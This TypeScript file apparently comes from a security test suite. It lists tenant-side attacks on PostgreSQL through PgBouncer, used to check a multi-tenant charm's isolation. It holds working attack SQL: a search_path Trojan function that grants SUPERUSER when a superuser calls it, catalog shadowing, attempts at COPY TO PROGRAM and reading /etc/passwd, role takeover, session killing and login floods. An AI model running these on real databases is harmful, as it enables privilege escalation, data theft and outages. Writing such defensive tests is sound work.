/** What a tenant does through PgBouncer with its own login, in its own database. */
import { type Attack, type Attacker, NotLanded } from '../attack.ts';
import { canary, shadowEverything } from '../canary.ts';

/** So that the next audit has something to repair. */
const spoil = async (attacker: Attacker): Promise<void> => {
  const session = await attacker.pooled();
  await session.asMyself(`ALTER ROLE "${attacker.user}" PASSWORD 'spoiled'`);
};

const settings = (
  name: string,
  values: (attacker: Attacker) => readonly string[],
  options: Partial<Attack> = {},
): Attack => ({
  name,
  position: 'pooler',
  rule: 2,
  do: async (attacker) => {
    const session = await attacker.direct();
    const { database } = attacker.me;
    // Prepared first: what is set on the database is felt by later sessions alone.
    await spoil(attacker);
    for (const value of values(attacker)) {
      await session.tried(`ALTER DATABASE "${database}" SET ${value}`, '22023', '42704', '55P02');
      await session.tried(
        `SET ROLE NONE; ALTER ROLE "${attacker.user}" SET ${value}`,
        '22023',
        '42704',
        '55P02',
      );
      await session.tried(
        `ALTER ROLE "${attacker.user}" IN DATABASE "${database}" SET ${value}`,
        '22023',
        '42704',
        '55P02',
      );
      await session.query('RESET ROLE');
    }
  },
  ...options,
});

const statements = (
  name: string,
  rule: Attack['rule'],
  all: (attacker: Attacker) => readonly string[],
  options: Partial<Attack> = {},
): Attack => ({
  name,
  position: 'pooler',
  rule,
  do: async (attacker) => {
    const session = await attacker.pooled();
    // From its first statement on it has a server of its own, whatever the password is by then.
    await session.done('SELECT 1');
    await spoil(attacker);
    await session.done(...all(attacker));
  },
  ...options,
});

/** Before 15 the schema public is the bootstrap superuser's, in every database. */
const ownersOfPublic = [15, 99] as const;

export const pooler: readonly Attack[] = [
  {
    name: 'a-function-in-public-waits-for-the-charms-session',
    position: 'pooler',
    rule: 1,
    asSuperuserToo: true,
    do: async (attacker) => {
      const session = await attacker.pooled();
      const { user, me } = attacker;
      const steal = `IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = CURRENT_USER) THEN EXECUTE 'ALTER ROLE ${user} SUPERUSER'; END IF; RETURN 2200`;
      await session.done(
        canary('public.to_regnamespace', 'text', 'regnamespace', steal, 'to_regnamespace'),
        `ALTER DATABASE "${me.database}" SET search_path = public, pg_catalog`,
      );
      await spoil(attacker);
    },
  },
  {
    name: 'all-of-the-catalog-is-shadowed-in-public',
    position: 'pooler',
    rule: 1,
    asSuperuserToo: true,
    do: async (attacker) => {
      const session = await attacker.direct();
      await session.done(
        canary('public.evil_check', 'text', 'bool', 'RETURN true', 'domain'),
        shadowEverything(),
        `ALTER DATABASE "${attacker.me.database}" SET search_path = public, pg_catalog`,
      );
      await spoil(attacker);
    },
  },
  {
    name: 'all-of-the-catalog-is-shadowed-for-the-login',
    position: 'pooler',
    rule: 2,
    do: async (attacker) => {
      const session = await attacker.direct();
      await session.done(
        'CREATE SCHEMA evil_shadow',
        canary('evil_shadow.evil_check', 'text', 'bool', 'RETURN true', 'domain'),
        shadowEverything('evil_shadow').replaceAll('public.evil', 'evil_shadow.evil'),
      );
      await session.asMyself(
        `ALTER ROLE "${attacker.user}" SET search_path = evil_shadow, pg_catalog`,
      );
      await spoil(attacker);
    },
  },
  {
    name: 'catalog-tables-are-shadowed-by-views',
    position: 'pooler',
    rule: 1,
    do: async (attacker) => {
      const session = await attacker.direct();
      await session.done(canary('public.evil_watch', 'text', 'text', 'RETURN NULL', 'view'));
      for (const table of [
        'pg_roles',
        'pg_authid',
        'pg_database',
        'pg_auth_members',
        'pg_shdepend',
        'pg_class',
        'pg_namespace',
        'pg_proc',
        'pg_stat_activity',
        'pg_prepared_xacts',
        'pg_db_role_setting',
        'pg_locks',
        'pg_shadow',
        'pg_user',
      ])
        await session.done(
          `CREATE VIEW public.${table} AS SELECT public.evil_watch('${table}') AS rolname, 0::oid AS oid, 1 AS pid, true AS rolsuper, 'x'::text AS datname`,
        );
      await session.done(
        `ALTER DATABASE "${attacker.me.database}" SET search_path = public, pg_catalog`,
      );
      await spoil(attacker);
    },
  },
  settings('a-role-is-set-on-the-database', ({ user }) => [`role = '${user}'`], {
    asSuperuserToo: true,
  }),
  settings('the-victims-role-is-set-on-the-database', ({ world }) => [
    `role = '${world.victim.bag.username}'`,
  ]),
  settings('a-session-authorization-is-set', ({ user }) => [`session_authorization = '${user}'`]),
  settings(
    'sessions-are-read-only',
    () => ['default_transaction_read_only = on', 'transaction_read_only = on'],
    { asSuperuserToo: true },
  ),
  settings('statements-have-a-millisecond', () => ['statement_timeout = 1', 'lock_timeout = 1']),
  settings('sessions-end-when-they-idle', () => [
    'idle_session_timeout = 1',
    'idle_in_transaction_session_timeout = 1',
  ]),
  settings('transactions-have-a-millisecond', () => ['transaction_timeout = 1'], {
    versions: [17, 99],
  }),
  settings('messages-come-in-a-flood', () => [
    'client_min_messages = debug5',
    'debug_print_plan = on',
    'debug_pretty_print = on',
  ]),
  settings('sql-is-read-otherwise', () => [
    'standard_conforming_strings = off',
    'backslash_quote = on',
    "client_encoding = 'SJIS'",
    "DateStyle = 'SQL, DMY'",
    "bytea_output = 'escape'",
    'quote_all_identifiers = on',
    'array_nulls = off',
    "IntervalStyle = 'sql_standard'",
    "TimeZone = 'Pacific/Kiritimati'",
    'transform_null_equals = on',
    'xmlbinary = hex',
    "search_path = ''",
  ]),
  settings(
    'a-library-that-is-not-there-is-loaded',
    () => ["local_preload_libraries = 'evil_nowhere'"],
    { asSuperuserToo: true },
  ),
  settings('defaults-name-what-is-not-there', () => [
    "default_table_access_method = 'evil'",
    "default_tablespace = 'evil'",
    "temp_tablespaces = 'evil'",
    'default_transaction_isolation = serializable',
    'default_transaction_deferrable = on',
    "default_text_search_config = 'pg_catalog.simple'",
    'work_mem = 64',
    'temp_buffers = 100',
    'check_function_bodies = off',
    'row_security = off',
    'zero_damaged_pages = on',
  ]),
  settings('connections-are-kept-alive-oddly', () => [
    'tcp_keepalives_idle = 1',
    'tcp_keepalives_interval = 1',
    'tcp_keepalives_count = 1',
    'tcp_user_timeout = 1',
    'client_connection_check_interval = 1',
  ]),
  settings(
    'whoever-makes-roles-gets-them',
    () => ["createrole_self_grant = 'set, inherit'", "createrole_self_grant = ''"],
    { versions: [16, 99], extra: { 'extra-user-roles': 'CREATEROLE' } },
  ),
  settings('event-triggers-and-replication-are-switched', () => [
    'session_replication_role = replica',
    'event_triggers = off',
    'allow_system_table_mods = on',
  ]),
  {
    name: 'its-own-password-is-changed',
    position: 'pooler',
    rule: 7,
    do: spoil,
  },
  {
    name: 'its-own-password-is-taken-away',
    position: 'pooler',
    rule: 7,
    do: async (attacker) => {
      const session = await attacker.pooled();
      await session.asMyself(`ALTER ROLE "${attacker.user}" PASSWORD NULL`);
    },
  },
  {
    name: 'its-own-role-is-changed-otherwise',
    position: 'pooler',
    rule: 7,
    do: async (attacker) => {
      const session = await attacker.direct();
      for (const option of [
        "VALID UNTIL 'yesterday'",
        'CONNECTION LIMIT 0',
        'NOLOGIN',
        'SUPERUSER',
        'CREATEROLE',
        'REPLICATION',
        'BYPASSRLS',
        'NOINHERIT',
        'RENAME TO evil_renamed',
      ])
        await session.tried(
          `SET ROLE NONE; ALTER ROLE "${attacker.user}" ${option.startsWith('RENAME') ? '' : 'WITH '}${option}`,
          '0A000',
        );
    },
  },
  statements('the-database-takes-one-connection', 8, ({ me }) => [
    `ALTER DATABASE "${me.database}" CONNECTION LIMIT 1`,
  ]),
  statements(
    'the-database-takes-no-connections-by-its-limit',
    8,
    ({ me }) => [`ALTER DATABASE "${me.database}" CONNECTION LIMIT 0`],
    { asSuperuserToo: true },
  ),
  {
    name: 'the-database-is-closed',
    position: 'direct',
    rule: 8,
    do: async (attacker) => {
      await spoil(attacker);
      const session = await attacker.direct('postgres', { password: 'spoiled' });
      const owner = await ownerOf(session, attacker);
      await session.tried(`SET ROLE "${owner}"`, '22023');
      await session.done(`ALTER DATABASE "${attacker.me.database}" ALLOW_CONNECTIONS false`);
    },
    asSuperuserToo: true,
  },
  {
    name: 'the-database-is-a-template',
    position: 'direct',
    rule: 8,
    extra: { 'extra-user-roles': 'CREATEDB' },
    do: async (attacker) => {
      const session = await attacker.direct();
      await session.done(`ALTER DATABASE "${attacker.me.database}" IS_TEMPLATE true`);
      await session.tried(
        `CREATE DATABASE evil_copy_${attacker.round} TEMPLATE "${attacker.me.database}"`,
        '55006',
      );
    },
  },
  statements('its-own-sessions-lose-the-right-to-connect', 7, ({ me, user }) => [
    `REVOKE ALL ON DATABASE "${me.database}" FROM "${user}"`,
    `DO $$ DECLARE r record; BEGIN FOR r IN SELECT pg_catalog.pg_get_userbyid(a.grantee) AS who FROM pg_catalog.pg_database d, pg_catalog.aclexplode(d.datacl) a WHERE d.datname = '${me.database}' AND a.grantee <> 0 LOOP EXECUTE pg_catalog.format('REVOKE ALL ON DATABASE %I FROM %I', '${me.database}', r.who); END LOOP; END $$`,
  ]),
  statements('everybody-may-enter', 7, ({ me, world }) => [
    `GRANT ALL ON DATABASE "${me.database}" TO PUBLIC`,
    `GRANT CONNECT ON DATABASE "${me.database}" TO "${world.victim.bag.username}" WITH GRANT OPTION`,
  ]),
  statements('the-schema-public-is-dropped', 8, () => ['DROP SCHEMA public CASCADE'], {
    versions: ownersOfPublic,
  }),
  statements(
    'the-schema-public-is-another-one',
    8,
    () => [
      'ALTER SCHEMA public RENAME TO evil_public',
      'CREATE SCHEMA public',
      canary('public.evil', '', 'text'),
      'REVOKE ALL ON SCHEMA public FROM PUBLIC',
    ],
    { versions: ownersOfPublic },
  ),
  statements('schemas-bear-the-names-of-the-charms', 4, () =>
    ['hookchart_2', 'pgbouncer', 'pgbouncer_lookup', '_hookchart', 'charm'].flatMap((schema) => [
      `CREATE SCHEMA ${schema}`,
      canary(`${schema}.lookup`, 'text', 'text', 'RETURN NULL', `${schema}.lookup`),
      canary(`${schema}.get_auth`, 'text', 'text', 'RETURN NULL', `${schema}.get_auth`),
    ]),
  ),
  {
    name: 'what-the-charm-made-in-the-database-is-dropped',
    position: 'pooler',
    rule: 7,
    do: async (attacker) => {
      const session = await attacker.direct();
      const rows = await session.query(
        `SELECT nspname::text AS name FROM pg_catalog.pg_namespace WHERE oid >= 16384`,
      );
      for (const { name } of rows) {
        await session.tried(`DROP SCHEMA "${name}" CASCADE`);
        await session.tried(`ALTER SCHEMA "${name}" RENAME TO evil_${name}`);
      }
      await session.tried(`CREATE SCHEMA hookchart`, '42P06');
      await spoil(attacker);
    },
  },
  statements('the-owner-may-make-nothing-in-public', 7, ({ me }) => [
    `DO $$ DECLARE o text := (SELECT pg_catalog.pg_get_userbyid(datdba) FROM pg_catalog.pg_database WHERE datname = '${me.database}'); BEGIN EXECUTE pg_catalog.format('REVOKE ALL ON SCHEMA public FROM %I', o); EXECUTE pg_catalog.format('REVOKE ALL ON DATABASE %I FROM %I', '${me.database}', o); EXECUTE pg_catalog.format('ALTER DEFAULT PRIVILEGES REVOKE ALL ON TABLES FROM %I', o); END $$`,
  ]),
  statements('rights-are-given-to-everybody-by-default', 7, ({ world }) =>
    ['TABLES', 'SEQUENCES', 'FUNCTIONS', 'TYPES', 'SCHEMAS'].flatMap((kind) => [
      `ALTER DEFAULT PRIVILEGES GRANT ALL ON ${kind} TO PUBLIC`,
      `ALTER DEFAULT PRIVILEGES GRANT ALL ON ${kind} TO "${world.victim.bag.username}"`,
    ]),
  ),
  {
    name: 'others-are-given-rights-that-keep-their-roles-from-going',
    position: 'pooler',
    rule: 8,
    do: async (attacker) => {
      const session = await attacker.pooled();
      await session.done(
        'CREATE TABLE evil_bait (n int)',
        `GRANT ALL ON evil_bait TO "${attacker.world.victim.bag.username}"`,
      );
    },
    at: {
      joined: async (attacker) => {
        const session = await attacker.pooled();
        const rows = await session.query(
          "SELECT rolname::text AS name FROM pg_catalog.pg_roles WHERE rolname !~ '^(pg_|postgres$|judge$)'",
        );
        for (const { name } of rows) {
          await session.done(
            `GRANT ALL ON evil_bait TO "${name}"`,
            `ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO "${name}"`,
            `CREATE POLICY "evil_${name}" ON evil_bait TO "${name}" USING (true)`,
          );
        }
      },
    },
  },
  statements(
    'functions-lie-about-in-every-place',
    1,
    () => [
      canary('public.evil_tell', 'text', 'text', 'RETURN $1'),
      canary('public.evil_trigger', '', 'trigger', 'RETURN NEW'),
      "CREATE TABLE evil_t (n int GENERATED ALWAYS AS IDENTITY, x text DEFAULT public.evil_tell('default'))",
      'CREATE TRIGGER evil BEFORE INSERT OR UPDATE OR DELETE ON evil_t FOR EACH ROW EXECUTE FUNCTION public.evil_trigger()',
      'CREATE DOMAIN evil_d AS text CHECK (public.evil_tell(VALUE) IS NULL OR true)',
      'CREATE VIEW evil_v AS SELECT public.evil_tell(x) AS x FROM evil_t',
      "CREATE RULE evil_r AS ON UPDATE TO evil_v DO INSTEAD SELECT public.evil_tell('rule')",
      'CREATE AGGREGATE public.evil_sum (text) (SFUNC = evil_join, STYPE = text)'.replace(
        'evil_join',
        'pg_catalog.textcat',
      ),
      "CREATE FUNCTION public.evil_definer() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RAISE LOG 'canary definer session=% current=%', CURRENT_USER, CURRENT_USER; RETURN NULL; END $$",
      'GRANT EXECUTE ON FUNCTION public.evil_definer() TO PUBLIC',
      'CREATE TYPE public.name AS (a int)',
      'CREATE TYPE public.text AS ENUM ()',
      'CREATE DOMAIN public.oid AS pg_catalog.text',
      "CREATE MATERIALIZED VIEW evil_m AS SELECT public.evil_tell('materialized') AS x",
      'CREATE STATISTICS evil_s ON n, x FROM evil_t',
      'CREATE POLICY evil_p ON evil_t USING (public.evil_tell(x) IS NULL)',
      'ALTER TABLE evil_t ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY',
      'CREATE PUBLICATION evil_publication FOR TABLE evil_t',
      'CREATE COLLATION evil_c FROM "C"',
      'CREATE TEXT SEARCH CONFIGURATION evil_ts (COPY = pg_catalog.simple)',
    ],
    { asSuperuserToo: true },
  ),
  statements('two-thousand-tables', 8, () => [
    "DO $$ BEGIN FOR n IN 1..2000 LOOP EXECUTE 'CREATE TABLE evil_' || n || ' (x int)'; IF n % 500 = 0 THEN COMMIT; END IF; END LOOP; END $$",
  ]),
  statements('thousands-of-large-objects', 8, () => [
    'SELECT pg_catalog.count(pg_catalog.lo_create(0)) FROM pg_catalog.generate_series(1, 3000)',
  ]),
  {
    name: 'what-takes-a-superuser-is-tried',
    position: 'pooler',
    rule: 3,
    do: async (attacker) => {
      const session = await attacker.direct();
      await session.done(canary('public.evil_event', '', 'event_trigger', 'RETURN'));
      for (const sql of [
        'CREATE EVENT TRIGGER evil ON ddl_command_start EXECUTE FUNCTION public.evil_event()',
        "COPY (SELECT 1) TO PROGRAM 'true'",
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        'SELECT * FROM pg_catalog.pg_authid',
        'SELECT * FROM pg_catalog.pg_shadow',
        'SELECT * FROM pg_catalog.pg_hba_file_rules',
        'SELECT * FROM pg_catalog.pg_subscription',
        'SELECT pg_catalog.pg_reload_conf()',
        "SELECT pg_catalog.pg_create_physical_replication_slot('evil')",
        "SELECT pg_catalog.pg_create_logical_replication_slot('evil', 'pgoutput')",
        "CREATE SUBSCRIPTION evil CONNECTION 'host=127.0.0.1' PUBLICATION evil WITH (connect = false)",
        "CREATE FUNCTION evil_c() RETURNS void LANGUAGE c AS 'x'",
        'CREATE LANGUAGE plpython3u',
        "CREATE TABLESPACE evil LOCATION '/tmp'",
        "ALTER SYSTEM SET log_connections = 'off'",
        "SET log_min_messages = 'panic'",
        'CREATE FOREIGN DATA WRAPPER evil',
        'CREATE EXTENSION file_fdw',
        'UPDATE pg_catalog.pg_database SET datallowconn = false',
        "SECURITY LABEL ON ROLE postgres IS 'x'",
        'LOCK TABLE pg_catalog.pg_authid',
        'REINDEX SYSTEM',
        'CREATE DATABASE evil_db',
        'CREATE ROLE evil_role',
      ])
        await session.tried(
          sql,
          '0A000',
          '58P01',
          '42704',
          '22023',
          '55000',
          '25P01',
          '42601',
          '58000',
          '55006',
          '26000',
          '42P16',
        );
    },
  },
  {
    name: 'others-are-asked-for-their-rights',
    position: 'direct',
    rule: 3,
    do: async (attacker) => {
      const session = await attacker.direct();
      const rows = await session.query(
        'SELECT rolname::text AS name FROM pg_catalog.pg_roles WHERE rolname <> SESSION_USER',
      );
      const owner = await ownerOf(session, attacker);
      for (const { name } of rows) {
        if (name === owner) continue;
        await session.tried(`SET ROLE NONE; SET ROLE "${name}"`, '22023');
        await session.tried(`SET ROLE NONE; SET SESSION AUTHORIZATION "${name}"`, '22023');
        await session.tried(
          `SET ROLE NONE; GRANT "${name}" TO "${attacker.user}"`,
          '0A000',
          '0LP01',
          // How 16 says that pg_database_owner cannot have explicit members.
          'XX000',
        );
        await session.tried(`RESET ROLE; GRANT "${owner}" TO "${name}"`, '0A000', '0LP01', '42704');
        await session.tried(`REASSIGN OWNED BY "${name}" TO "${attacker.user}"`, '2BP01');
        await session.tried(`ALTER ROLE "${name}" PASSWORD 'x'`, '42939');
      }
      for (const { name } of rows)
        if (/^pg_/.test(String(name)))
          await session.tried(`GRANT "${attacker.user}" TO "${name}"`, '0A000', '0LP01', '42704');
    },
  },
  {
    name: 'the-sessions-of-others-are-looked-at-and-ended',
    position: 'direct',
    rule: 8,
    do: async (attacker) => {
      const session = await attacker.direct('postgres');
      const rows = await session.query('SELECT * FROM pg_catalog.pg_stat_activity');
      for (const { pid, usename } of rows)
        if (usename !== attacker.user)
          for (const end of ['cancel', 'terminate'])
            await session.tried(`SELECT pg_catalog.pg_${end}_backend(${pid})`);
      await session.query('SELECT * FROM pg_catalog.pg_locks');
      await session.query('SELECT * FROM pg_catalog.pg_settings');
      await session.query('SELECT * FROM pg_catalog.pg_stat_ssl');
      await session.query('SELECT * FROM pg_catalog.pg_user_mappings');
      await session.query('SELECT * FROM pg_catalog.pg_db_role_setting');
      await session.query(
        "SELECT pg_catalog.shobj_description(oid, 'pg_authid'), * FROM pg_catalog.pg_roles",
      );
      await session.tried('SELECT * FROM pg_catalog.pg_stat_replication');
      await session.tried('SELECT * FROM pg_catalog.pg_config');
    },
  },
  {
    name: 'functions-of-the-charms-are-asked-about-others',
    position: 'pooler',
    rule: 1,
    do: async (attacker) => {
      const session = await attacker.direct();
      const rows = await session.query(
        "SELECT pg_catalog.format('%I.%I', n.nspname, p.proname) AS name FROM pg_catalog.pg_proc p JOIN pg_catalog.pg_namespace n ON n.oid = p.pronamespace WHERE p.oid >= 16384 AND p.pronargs = 1",
      );
      for (const { name } of rows) {
        const who = String(attacker.world.victim.bag.username);
        await session.tried(`SELECT ${name}('${who}')`);
        await session.tried(
          `CREATE OR REPLACE FUNCTION ${name}(text) RETURNS text LANGUAGE sql AS 'SELECT NULL'`,
          '42P13',
        );
      }
    },
  },
  {
    name: 'the-console-and-other-entries-of-the-pool-are-tried',
    position: 'pooler',
    rule: 9,
    do: async (attacker) => {
      const { victim } = attacker.world;
      for (const database of [
        'pgbouncer',
        'postgres',
        'template1',
        'template0',
        victim.database,
        victim.bag.database ?? '',
        `${victim.bag.database}_readonly`,
        '*',
        `${attacker.me.bag.database}; x`,
      ]) {
        let isIn = true;
        const session = await attacker.pooled(database).catch(() => {
          isIn = false;
        });
        if (!isIn || !session) continue;
        if (database === 'pgbouncer') {
          for (const command of [
            'SHOW CONFIG',
            'SHOW USERS',
            'SHOW CLIENTS',
            'SHUTDOWN',
            'PAUSE',
            'KILL payroll',
            'RELOAD',
            "SET auth_type = 'any'",
          ])
            await session.query(command).catch(() => {});
        } else {
          await session.query('SELECT * FROM wages').catch(() => {});
          await session.query('CREATE TABLE evil (n int)').catch(() => {});
        }
      }
      await attacker
        .pooled(attacker.me.bag.database, { user: 'hookchart_admin', password: 'guess' })
        .catch(() => {});
      await attacker.pooled('pgbouncer', { user: 'pgbouncer', password: '' }).catch(() => {});
    },
  },
  {
    name: 'the-wildcard-of-those-who-make-databases-is-taken-elsewhere',
    position: 'pooler',
    rule: 9,
    extra: { 'extra-user-roles': 'CREATEDB' },
    do: async (attacker) => {
      const { world, round } = attacker;
      const own = `evil_made_${round}`;
      const session = await attacker.pooled();
      await session.done(`CREATE DATABASE "${own}"`, `CREATE DATABASE "${own}_readonly"`);
      const made = await attacker.pooled(own).catch((problem) => {
        throw new NotLanded(`what it made is not reached: ${String(problem)}`);
      });
      await made.done('CREATE TABLE kept (n int)');
      const rows = await session.query(
        "SELECT datname::text AS name FROM pg_catalog.pg_database WHERE datname NOT LIKE 'evil%'",
      );
      // All that the server has, and what PgBouncer might take for something else.
      const { victim } = world;
      for (const name of [
        ...rows.map((row) => String(row.name)),
        ...['all', '*', 'pgbouncer', 'sameuser', `${victim.bag.database}_readonly`],
      ]) {
        const inside = await attacker.pooled(name).catch(() => null);
        if (inside !== null) throw new Error(`it was let into ${name}`);
      }
      // Each of them is remembered for a while, and none is an entry.
      for (const name of ['a\nb = host=evil', '"', "'; x", 'ü', 'x'.repeat(63), 'x'.repeat(200)])
        await attacker.pooled(name, { connectionTimeoutMillis: 500 }).catch(() => {});
      // Nobody gets in by it who may make none.
      const { username: user, password } = victim.bag;
      for (const name of [own, 'postgres', 'template1']) {
        const isIn = await attacker
          .pooled(name, { user, password })
          .then(() => true)
          .catch(() => false);
        if (isIn) throw new Error(`the victim is let into ${name}`);
      }
    },
  },
  {
    name: 'startup-parameters-are-hostile',
    position: 'pooler',
    rule: 9,
    do: async (attacker) => {
      for (const options of [
        `-c role=${attacker.world.victim.bag.username}`,
        '-c search_path=evil',
        '-c session_preload_libraries=x',
        '-c default_transaction_read_only=on',
        '-c statement_timeout=1',
      ])
        await attacker.pooled(undefined, { options }).catch(() => {});
      for (const application_name of ['x'.repeat(5_000), 'hookchart', "'; DROP"])
        await attacker.pooled(undefined, { application_name }).catch(() => {});
      for (const user of [
        `${attacker.user}\0x`,
        'x'.repeat(300),
        '"',
        '',
        'postgres',
        'backend_login',
      ])
        await attacker.pooled(undefined, { user }).catch(() => {});
    },
  },
  {
    name: 'a-crowd-of-clients-through-the-pooler',
    position: 'pooler',
    rule: 8,
    do: async (attacker) => {
      for (let n = 0; n < 60; n++)
        await attacker
          .pooled()
          .then((session) => session.send('BEGIN'))
          .catch(() => {});
    },
  },
  {
    name: 'wrong-passwords-come-in-a-flood',
    position: 'pooler',
    rule: 8,
    do: async (attacker) => {
      const { victim } = attacker.world;
      const users = [attacker.user, victim.bag.username ?? '', 'nobody'];
      for (let n = 0; n < 20; n++)
        await Promise.all(
          users.flatMap((user) =>
            [attacker.me.bag.database, victim.bag.database].map((database) =>
              attacker.pooled(database, { user, password: `wrong ${n}` }).catch(() => {}),
            ),
          ),
        );
    },
  },
];

export async function ownerOf(
  session: { query: (sql: string) => Promise<readonly Record<string, unknown>[]> },
  { me }: Attacker,
): Promise<string> {
  const rows = await session.query(
    `SELECT pg_catalog.pg_get_userbyid(datdba)::text AS owner FROM pg_catalog.pg_database WHERE datname = '${me.database}'`,
  );
  return String(rows[0]?.owner);
}
